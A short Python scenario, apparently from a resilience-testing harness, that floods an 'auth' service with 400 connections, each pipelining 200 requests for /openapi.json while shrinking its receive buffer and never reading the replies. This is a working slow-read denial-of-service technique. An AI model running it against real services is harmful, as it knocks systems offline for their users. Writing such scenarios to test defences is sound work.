"""400 connections of HTTP/1.1 that ask for /openapi.json 200 times at once and read nothing."""

import asyncio
import socket

SERVICE = "auth"
CONNECTIONS = 400
REQUESTS = 200


async def attack(scene):
    content = b"GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n" * REQUESTS
    addresses = scene.sources(16)

    async def one(number):
        loop = asyncio.get_running_loop()
        while not scene.is_over:
            connection = await scene.connect(addresses[number % 16])
            if connection is None:
                continue
            # The answers are to wait at the service, and not in this kernel buffer.
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            try:
                await loop.sock_sendall(connection, content)
                scene.count("requests", REQUESTS)
                await scene.pause(2)
            except OSError:
                scene.count("connections lost")
            finally:
                connection.close()

    await scene.together(one(number) for number in range(CONNECTIONS))
